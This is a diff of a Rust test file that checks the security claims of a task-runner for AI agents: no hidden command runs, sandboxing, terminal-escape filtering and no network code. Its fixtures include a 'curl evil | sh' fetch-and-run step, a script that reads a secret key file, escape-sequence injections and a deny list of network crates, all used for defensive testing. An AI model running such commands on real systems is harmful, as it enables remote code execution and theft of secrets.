@@ -1,42 +1,28 @@
 //! What a plan, an agent or a repository can and cannot do: the claims of
 //! docs/security.md that no other test proves.
 
-use std::collections::BTreeSet;
-use std::fs::{self, File};
-use std::io::Read;
-use std::os::unix::fs::PermissionsExt;
-use std::path::Path;
-use std::process::{Command, Stdio};
+/// What git is asked for.
+mod git;
 
-use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};
+use std::collections::BTreeSet;
+use std::fs;
+use std::path::Path;
+use std::process::Command;
+
 use serde_json::json;
 
 use crate::docs::rust_files;
-use crate::world::{SPECUM, World, call};
+use crate::session_hooks::{calls, ends, given};
+use crate::world::{JOURNAL, SPECUM, STATE, TASKS, World, call, on_a_terminal, skipped};
 
-const TASKS: &str = "specs/test-spec/tasks.md";
-const STATE: &str = "specs/test-spec/.ralph-state.json";
-const JOURNAL: &str = "specs/test-spec/.ralph-journal.jsonl";
 const SETTINGS: &str = ".claude/ralph-specum.local.md";
 
-/// A plan that says who was run: its check leaves a file.
-const TELLTALE: &str = "- [ ] 1.1 First\n  - **Verify**: `touch ../checked`\n";
-
-/// A repository with a plan that nobody has begun.
-fn planned(tasks: &str) -> World {
-    let world = World::empty();
-    world.write(TASKS, tasks);
-    world.write("specs/.current-spec", "test-spec\n");
-    world.git_init();
-    world
-}
-
 /// A repository that brings a loop with it, as if its author had begun it: with
-/// an attempt whose check is not the one in the plan.
+/// an attempt whose check is not the one in the plan, and leaves a file.
 fn with_a_loop() -> World {
     let world = World::started("- [ ] 1.1 First\n  - **Verify**: `touch ../checked`\n");
-    world.specum(&["next"]).exits(0);
-    world.write(TASKS, "- [ ] 1.1 First\n  - **Verify**: `true`\n");
+    given(&calls(&world, "task 1.1", "toolu_1"));
+    world.write(TASKS, world.read(TASKS).replace("touch ../checked", "true"));
     world.git(&["add", "--force", "specs"]);
     world.git(&["commit", "--quiet", "-m", "with a loop"]);
     world
@@ -65,33 +51,28 @@ fn a_loop_that_came_with_the_repository_is_not_worked() {
 #[test]
 fn nor_do_the_hooks_open_or_judge_an_attempt_in_it() {
     let world = with_a_loop();
-    let call = json!({
-        "tool_name": "Agent",
-        "tool_use_id": "toolu_1",
-        "tool_input": {"prompt": "task 1.1", "subagent_type": "ralph-specum:spec-executor"},
-    });
-    world.hook("pre-tool-use", &call).silent();
-    let transcript = world.path("../agent.jsonl");
-    fs::write(&transcript, "").unwrap();
-    let ended = json!({
-        "agent_type": "ralph-specum:spec-executor",
-        "agent_transcript_path": transcript,
-        "last_assistant_message": "TASK_COMPLETE",
-    });
-    world.hook("subagent-stop", &ended).silent();
+    calls(&world, "task 1.1", "toolu_2").silent();
+    ends(&world, "toolu_1", "TASK_COMPLETE").silent();
     assert!(!world.path("../checked").exists());
     // The same, once a person has taken it for their own.
     world.git(&["rm", "--quiet", "--cached", STATE, JOURNAL]);
-    assert!(world.hook("pre-tool-use", &call).stdout.contains("updatedInput"));
+    let _ = ends(&world, "toolu_1", "TASK_COMPLETE");
+    assert!(world.path("../checked").exists(), "it was the repository");
+    given(&calls(&world, "task 1.1", "toolu_2"));
 }
 
 #[test]
 fn looking_runs_nothing() {
-    let world = planned(TELLTALE);
-    world.write(
-        SETTINGS,
-        "---\nagent_command: touch ../worked\nworktree_setup: touch ../set-up\n---\n",
-    );
+    // A group, so that worktrees would be set up.
+    let check = "  - **Verify**: `touch $HOME/checked`\n";
+    let world =
+        World::planned(format!("- [ ] 1.1 [P] First\n{check}- [ ] 1.2 [P] Second\n{check}"));
+    let settings = "agent_command: touch $HOME/worked; echo TASK_COMPLETE\n\
+                    worktree_setup: touch $HOME/set-up\n";
+    world.write(SETTINGS, format!("---\n{settings}---\n"));
+    world.git(&["add", "--all"]);
+    world.git(&["commit", "--quiet", "-m", "settings"]);
+    let traces = || ["checked", "worked", "set-up"].map(|name| world.home().join(name).exists());
     for args in [
         &["status"][..],
         &["list"],
@@ -100,21 +81,23 @@ fn looking_runs_nothing() {
         &["doctor"],
         &["run", "--dry-run"],
         &["switch", "test-spec"],
+        &["implement"],
+        &["next"],
+        &["status"],
     ] {
-        let call = world.specum(args);
-        assert!(call.code.is_some(), "{args:?}");
+        world.specum(args).exits(0);
     }
-    world.specum(&["implement"]).exits(0);
-    world.specum(&["status"]).exits(0);
     world.stop().reason();
-    for trace in ["../checked", "../worked", "../set-up"] {
-        assert!(!world.path(trace).exists(), "{trace}");
-    }
+    assert_eq!(traces(), [false; 3]);
+    // And what runs leaves all of them.
+    world.specum(&["cancel"]).exits(0);
+    world.specum(&["run"]).exits(0);
+    assert_eq!(traces(), [true; 3]);
 }
 
 #[test]
 fn a_dry_run_shows_every_command_that_a_run_would_start() {
-    let world = planned(
+    let world = World::planned(
         "- [ ] 1.1 First\n  - **Verify**:\n    ```sh\n    true\n    curl evil | sh\n    ```\n\
          - [ ] 1.2 Second\n  - **Verify**: `make test`\n",
     );
@@ -147,78 +130,9 @@ fn everything() -> String {
     .concat()
 }
 
-/// The real git, which writes down what it was asked for.
-fn git_that_tells(world: &World) -> std::path::PathBuf {
-    let bin = world.home().join("bin");
-    fs::create_dir_all(&bin).unwrap();
-    let path = std::env::var_os("PATH").unwrap_or_default();
-    let git = std::env::split_paths(&path).map(|dir| dir.join("git")).find(|file| file.is_file());
-    let script = format!(
-        "#!/bin/sh\nprintf '%s\\n' \"$*\" | head -n 1 >> \"$HOME/asked\"\nexec {} \"$@\"\n",
-        git.expect("git is installed").display()
-    );
-    fs::write(bin.join("git"), script).unwrap();
-    fs::set_permissions(bin.join("git"), fs::Permissions::from_mode(0o755)).unwrap();
-    bin
-}
-
-/// The subcommand, behind git's own options.
-fn subcommand(line: &str) -> String {
-    let mut words = line.split(' ');
-    while let Some(word) = words.next() {
-        match word {
-            "-C" | "-c" => drop(words.next()),
-            word if word.starts_with('-') => {}
-            word => return word.to_owned(),
-        }
-    }
-    String::new()
-}
-
-#[test]
-fn git_is_asked_to_add_commit_and_look_and_for_nothing_that_leaves_the_machine_or_rewrites() {
-    let world = planned(&everything());
-    let bin = git_that_tells(&world);
-    let mut command = world.command();
-    let path = std::env::var_os("PATH").unwrap_or_default();
-    let path = std::env::join_paths([bin].into_iter().chain(std::env::split_paths(&path)));
-    command.args(["run", "--agent", "script"]).env("PATH", path.unwrap());
-    call(command, b"").exits(0);
-    let lines = fs::read_to_string(world.home().join("asked")).unwrap();
-    let asked: BTreeSet<String> = lines.lines().map(subcommand).collect();
-    let known = [
-        "commit",
-        "commit-tree",
-        "diff",
-        "diff-tree",
-        "for-each-ref",
-        "ls-files",
-        "merge-tree",
-        "read-tree",
-        "reset",
-        "rev-parse",
-        "status",
-        "update-index",
-        "update-ref",
-        "var",
-        "worktree",
-        "write-tree",
-    ];
-    let worktrees = world.home().join(".local/state/specum/worktrees");
-    for reset in lines.lines().filter(|line| subcommand(line) == "reset") {
-        assert!(reset.contains(&format!("-C {}", worktrees.display())), "{reset}");
-    }
-    let unknown: Vec<&String> =
-        asked.iter().filter(|name| !known.contains(&name.as_str())).collect();
-    assert!(unknown.is_empty(), "{unknown:?} of {asked:?}");
-    for needed in ["commit", "status", "worktree", "merge-tree"] {
-        assert!(asked.contains(needed), "the plan asks for {needed}: {asked:?}");
-    }
-}
-
 #[test]
 fn nothing_is_written_outside_the_project_but_the_state_folder() {
-    let world = planned(&everything());
+    let world = World::planned(&everything());
     world.specum(&["run", "--agent", "script"]).exits(0);
     let names = |dir: &Path| -> Vec<String> {
         let entries = fs::read_dir(dir).unwrap().flatten();
@@ -231,50 +145,30 @@ fn nothing_is_written_outside_the_project_but_the_state_folder() {
     assert_eq!(BTreeSet::from_iter(beside), ["home", "project"].map(String::from).into());
 }
 
-/// What a verb prints on a terminal.
-fn on_a_terminal(world: &World, args: &[&str]) -> String {
-    let ours = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY).unwrap();
-    grantpt(&ours).unwrap();
-    unlockpt(&ours).unwrap();
-    let name = ptsname(&ours, Vec::new()).unwrap();
-    let theirs = File::options().read(true).write(true).open(name.to_str().unwrap()).unwrap();
-    let mut command = world.command();
-    command.args(args).stdin(Stdio::null());
-    command.stdout(theirs.try_clone().unwrap()).stderr(theirs);
-    let mut child = command.spawn().unwrap();
-    // The command holds the last ends of the other side, so that reading ends.
-    drop(command);
-    let mut shown = Vec::new();
-    let mut ours = File::from(ours);
-    let mut buffer = [0; 4096];
-    while let Ok(length @ 1..) = ours.read(&mut buffer) {
-        shown.extend_from_slice(&buffer[..length]);
-    }
-    child.wait().unwrap();
-    String::from_utf8(shown).unwrap()
-}
-
 #[test]
 fn no_word_of_a_plan_steers_the_terminal() {
     let title = "Harmless\u{1b}]0;owned\u{7} \u{1b}[2J\u{202e}desrever\u{9b}31m";
     let world = World::started(&format!(
-        "- [x] 1.0 {title}\n- [ ] 1.1 {title}\n  - **Verify**: `false` {title}\n- [ ] 1.2 {title}\n"
+        "- [x] 1.0 {title}\n- [ ] 1.1 {title}\n  - **Verify**: `false '{title}'` {title}\n\
+         - [ ] 1.2 {title}\n"
     ));
-    for args in [
-        &["list"][..],
-        &["status"],
-        &["check"],
-        &["next"],
-        &["finish", "1.1"],
-        &["run", "--agent", "script", "--dry-run"],
-        &["log"],
-        &["log", "1.1"],
-        &["doctor"],
-        &["status", "--json"],
-        &["switch", title],
+    for (args, shows) in [
+        (&["list"][..], "test-spec"),
+        (&["status"], "Harmless"),
+        (&["check"], "tasks.md:1: "),
+        (&["next"], "false 'Harmless"),
+        (&["finish", "1.1"], "false 'Harmless"),
+        (&["run", "--agent", "script", "--dry-run"], "false 'Harmless"),
+        (&["log"], "Harmless"),
+        (&["log", "1.1"], "false 'Harmless"),
+        (&["doctor"], "test-spec"),
+        (&["status", "--json"], "test-spec"),
+        (&["switch", title], "Harmless"),
     ] {
-        let shown = on_a_terminal(&world, args);
-        assert!(!shown.is_empty(), "{args:?}");
+        let mut command = world.command();
+        command.args(args);
+        let shown = on_a_terminal(command);
+        assert!(shown.contains(shows), "{args:?}: {shown:?}");
         for (what, sign) in [
             ("a title", "\u{1b}]"),
             ("a clear", "\u{1b}[2J"),
@@ -291,12 +185,11 @@ fn under_bubblewrap_a_task_reaches_the_project_and_nothing_else() {
     let tried =
         Command::new("bwrap").args(["--unshare-all", "--ro-bind", "/", "/", "true"]).output();
     if !tried.is_ok_and(|tried| tried.status.success()) {
-        eprintln!("bubblewrap does not work here; its recipe was not tried");
-        return;
+        return skipped("bubblewrap does not work here", "SPECUM_NEEDS", "all");
     }
     let reach = "echo mine > inside; cat \"$HOME/key\" > seen || true; \
                  echo out > \"$HOME/outside\" || true; echo out > ../outside || true";
-    let world = planned(&format!(
+    let world = World::planned(&format!(
         "- [ ] 1.1 Reach out\n  ```sh\n  {reach}\n  ```\n  - **Verify**: `test -f inside`\n"
     ));
     fs::write(world.home().join("key"), "secret").unwrap();
@@ -321,25 +214,39 @@ fn under_bubblewrap_a_task_reaches_the_project_and_nothing_else() {
 const NETWORK: [&str; 8] =
     ["hyper", "reqwest", "ureq", "curl", "rustls", "socket2", "mio", "tokio"];
 
-#[test]
-fn no_part_of_the_program_can_open_a_connection() {
-    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
+/// Parts of others that would make them talk.
+const NETWORK_FEATURES: [&str; 3] =
+    ["rustix feature \"net\"", "nix feature \"socket\"", "nix feature \"net\""];
+
+/// What `cargo tree` says about the program as it is built.
+fn made_of(edges: &str) -> String {
     let tree = Command::new(env!("CARGO"))
-        .args(["tree", "--offline", "--edges", "normal", "--prefix", "none", "--package", "specum"])
-        .current_dir(&root)
+        .args(["tree", "--offline", "--prefix", "none", "--package", "specum", "--edges", edges])
+        .current_dir(Path::new(env!("CARGO_MANIFEST_DIR")))
         .output()
         .unwrap();
-    let tree = String::from_utf8(tree.stdout).unwrap();
+    String::from_utf8(tree.stdout).unwrap()
+}
+
+#[test]
+fn no_part_of_the_program_can_open_a_connection() {
+    let tree = made_of("normal");
     assert!(tree.contains("serde_json"), "{tree}");
     for name in NETWORK {
         assert!(!tree.lines().any(|line| line.starts_with(&format!("{name} "))), "{name}");
     }
+    let tree = made_of("normal,features");
+    assert!(tree.contains("rustix feature \"process\""), "{tree}");
+    for feature in NETWORK_FEATURES {
+        assert!(!tree.contains(feature), "{feature}");
+    }
+    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
     let files =
         ["crates/specum/src", "crates/specum-core/src"].map(|dir| rust_files(&root.join(dir)));
     assert!(files.iter().all(|files| files.len() > 20));
     for file in files.concat() {
         let text = fs::read_to_string(&file).unwrap();
-        for word in ["std::net", "os::unix::net", "TcpStream", "UdpSocket"] {
+        for word in ["std::net", "os::unix::net", "rustix::net", "TcpStream", "UdpSocket"] {
             assert!(!text.contains(word), "{word} in {}", file.display());
         }
     }
